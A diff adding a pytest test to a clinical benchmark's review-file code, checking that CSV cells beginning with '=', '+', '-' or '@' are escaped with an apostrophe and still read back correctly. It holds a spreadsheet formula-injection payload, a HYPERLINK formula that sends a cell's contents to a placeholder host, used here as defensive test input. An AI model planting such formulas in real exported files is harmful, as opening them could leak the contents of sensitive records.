@@ -26,6 +26,7 @@ from clinieval.benchmarks.medalign.build.review import (
     REVIEW_COLUMNS,
     key_path,
     match_file,
+    read_review,
     write_review,
 )
 from clinieval.ehr import synth
@@ -504,3 +505,26 @@ def test_bad_key_files(tmp_path: Path, row: list[str], message: str) -> None:
     key = write_csv(tmp_path / "review.key.csv", [*KEY, row])
     with pytest.raises(UserError, match=message):
         score_matching(write_review_file(tmp_path), key)
+
+
+def test_review_cells_that_would_run_as_formulas_are_inert_and_read_back(
+    cohort: tuple[Path, dict[str, str]], tmp_path: Path
+) -> None:
+    folder, distinctive = cohort
+    index, _ = build_cohort_index(folder)
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    [_, *rest] = instructions_for(distinctive)
+    instructions = [Instruction("-1", evil, "@adult", "+outpatient"), *rest]
+    matches = match_instructions(instructions, index, k=2, seed=0, random_pool="cohort")
+    write_review(matches, tmp_path / "review.csv")
+    rows = read_csv(tmp_path / "review.csv")
+    mine = [r for r in rows if r["question"].endswith('"open")')]
+    assert mine and all(r["question"] == "'" + evil for r in mine)
+    assert all(r["instruction_id"] == "'-1" and r["patient_characteristics"] == "'@adult" for r in mine)
+    for r in rows:  # a clinician marks every candidate; the review reads back under the real ids
+        r["relevant"] = "1"
+    with (tmp_path / "review.csv").open("w", newline="", encoding="utf-8") as f:
+        writer = csv.DictWriter(f, fieldnames=list(rows[0]), lineterminator="\n")
+        writer.writeheader()
+        writer.writerows(rows)
+    assert ("-1", mine[0]["ehr"]) in read_review(tmp_path / "review.csv")
